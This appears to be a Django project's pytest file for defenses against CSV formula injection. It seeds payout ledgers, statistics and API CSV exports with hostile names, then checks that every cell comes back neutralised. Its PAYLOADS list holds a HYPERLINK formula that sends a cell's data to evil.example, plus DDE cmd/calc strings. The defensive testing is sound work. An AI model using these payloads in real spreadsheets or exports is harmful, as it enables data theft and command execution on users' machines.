"""CSV formula injection (issue 14): whatever a person typed reaches no spreadsheet as a formula.

Every CSV route of the URL table is fed names and titles that start a formula (OWASP's `=`, `+`,
`-`, `@`, tab and carriage return), and each download, read back with the csv module, must have
no cell that starts one: the people's text comes back with a leading `'`. The routes: the
payout ledger, the OpenCollective file, a publication's statistics, and the API's `?format=csv`
of every endpoint (tests/support/api_lists.py, which the query-count tests keep complete against
the URL table), read as a spreadsheet would: a bare carriage return ends a row there too.
"""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.db.models import CharField, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import reverse

from accounts.models import User
from applications.models import Idea, Project, Proposal
from docs_season.models import DocProposal
from payments import sync
from payments.models import Payout, PayoutStatus
from programs.models import Organization, Program
from reports import publishing
from reports.models import Publication
from reports.tables import flatten
from tests.support.api_lists import API_LISTS, API_NOT_A_LIST
from tests.support.cast import DEADLINE

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
APPS = ["accounts", "audit", "programs", "applications", "docs_season", "evaluations"]
APPS += ["payments", "reports", "portal"]

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&E2,"Details")',
    '+HYPERLINK("https://evil.example/","Details")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # No formula start, but a bare carriage return ends the row in a spreadsheet.
    'Details\r=HYPERLINK("https://evil.example/","Details")',
]


# OWASP's formula starts, written out here so that the test does not trust the writer's list.
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _ledger(program):
    return reverse("program_ledger", args=[program.slug]) + "?format=csv"


def _with_csv(url):
    return url if "format=csv" in url else url + ("&" if "?" in url else "?") + "format=csv"


# name: (who downloads it, its URL in the world). The pages' CSV downloads, then the API's CSV
# of every endpoint: the lists, and the one-object endpoints that show a person's text.
ROUTES = {
    "program_ledger": ("manager", lambda w: _ledger(w["cast"].program)),
    "program_ledger[docs]": ("manager", lambda w: _ledger(w["cast"].docs_program)),
    "program_opencollective": (
        "manager",
        lambda w: reverse("program_opencollective", args=[w["cast"].program.slug]) + "?format=csv",
    ),
    "statistics_csv": (None, lambda w: reverse("statistics_csv", args=[w["publication"].pk])),
    **{
        name: (endpoint.viewer, lambda w, endpoint=endpoint: _with_csv(endpoint.url(w["cast"])))
        for name, endpoint in API_LISTS.items()
    },
    "api_proposal": ("contributor", lambda w: f"/api/v1/proposals/{w['mine'].pk}/?format=csv"),
    "api_project_evaluations": (
        "contributor",
        lambda w: f"/api/v1/projects/{w['project'].pk}/evaluations/?format=csv",
    ),
}
# API routes that answer no CSV, with why.
NOT_CSV = {
    "api_schema": "the OpenAPI document, in YAML or JSON",
    "api_docs": "an HTML page",
    "api_redoc": "an HTML page",
}


def poison(world, payload):
    """Every name and title a download can show becomes the payload; the statistics are
    published anew, since a publication keeps the names of when it was published."""
    for model, field in [
        (Organization, "name"),
        (Program, "name"),
        (User, "name"),
        (Proposal, "title"),
        (Idea, "title"),
        (Project, "title"),
        (DocProposal, "title"),
        (Payout, "description"),
    ]:
        # Each name made unique by its row's key (organizations' names are unique).
        model.objects.update(**{field: Concat(Value(payload + " #"), Cast("pk", CharField()))})
    cast = world["cast"]
    cast.program.refresh_from_db()  # the statistics name the program as the cast holds it
    world["publication"] = publishing.statistics_publish(
        program=cast.program, by=cast.manager, now=DEADLINE
    )


def cells(text):
    """Every cell, rows split as spreadsheets split them: at "\r\n", "\n" and a bare "\r"."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formulas(text):
    return [cell for cell in cells(text) if cell.startswith(STARTS)]


def reached(text, payload):
    """Whether the payload is in the file, as a cell's start (poison adds the row's key)."""
    written = "'" + payload if payload.startswith(STARTS) else payload
    return any(cell.startswith(written) for cell in cells(text))


@pytest.fixture
def poisoned_world(world, settings):
    settings.OPENCOLLECTIVE_TOKEN = ""
    # One approved payout, so that the OpenCollective file has a row.
    Payout.objects.filter(reference=Payout.objects.order_by("pk")[0].reference).update(
        status=PayoutStatus.APPROVED
    )
    return world


def test_every_api_route_is_tried_or_answers_no_csv():
    assert set(API_LISTS) | set(API_NOT_A_LIST) <= set(ROUTES) | set(NOT_CSV)


@pytest.mark.parametrize("route", ROUTES)
def test_no_cell_of_a_csv_route_starts_a_formula(poisoned_world, route):
    viewer, url = ROUTES[route]
    client = Client()
    if viewer:
        client.force_login(getattr(poisoned_world["cast"], viewer))
    for payload in PAYLOADS:
        poison(poisoned_world, payload)
        response = client.get(url(poisoned_world))
        assert response.status_code == 200, response.content
        assert response["Content-Type"].startswith("text/csv")
        text = response.content.decode()
        assert formulas(text) == [], payload
        assert reached(text, payload), payload


def test_the_opencollective_file_keeps_people_text_inert(poisoned_world):
    """The file a manager carries to OpenCollective by hand, as the sync module writes it."""
    for payload in PAYLOADS:
        poison(poisoned_world, payload)
        text = sync.approved_payouts_csv()
        assert formulas(text) == []
        assert reached(text, payload), payload


def test_a_signed_publication_still_verifies_and_only_its_csv_is_quoted(client, poisoned_world):
    """Signatures cover the canonical JSON of the data, which is stored as published: quoting
    the CSV at download time leaves every publication, old or new, verifying."""
    poison(poisoned_world, PAYLOADS[0])
    publication = Publication.objects.get(pk=poisoned_world["publication"].pk)
    signed = client.get(reverse("statistics_json", args=[publication.pk]))
    assert publishing.verify(
        data_bytes=signed.content,
        signature_b64=signed["X-Signature-Ed25519"],
        public_key_b64=publication.public_key,
    )
    downloaded = client.get(reverse("statistics_csv", args=[publication.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(downloaded)))[1:]
    published = flatten(publication.data)
    assert dict(published)["program.name"].startswith(PAYLOADS[0])
    # The names gained their quote; every other cell is the published value itself.
    assert [tuple(row) for row in rows] == [
        (key, "'" + value if value.startswith(PAYLOADS[0]) else value) for key, value in published
    ]


WRITERS = {"writer", "DictWriter"}


def _csv_writers(tree):
    """Lines that build a csv writer without programs.spreadsheets."""
    found = []
    for node in ast.walk(tree):
        attribute = isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
        if attribute and node.value.id == "csv" and node.attr in WRITERS:
            found.append(node.lineno)
        imported = isinstance(node, ast.ImportFrom) and node.module == "csv"
        if imported and {alias.name for alias in node.names} & WRITERS:
            found.append(node.lineno)
    return found


def test_every_export_writes_through_the_one_csv_writer():
    offences = []
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            if path.relative_to(ROOT).as_posix() == "programs/spreadsheets.py":
                continue
            for line in _csv_writers(ast.parse(path.read_text(), str(path))):
                offences.append(f"{path.relative_to(ROOT)}:{line}")
    assert offences == []


def test_the_check_for_other_writers_bites():
    tree = ast.parse("import csv\nfrom csv import DictWriter\nw = csv.writer(f)\nr = csv.reader(f)")
    assert _csv_writers(tree) == [2, 3]
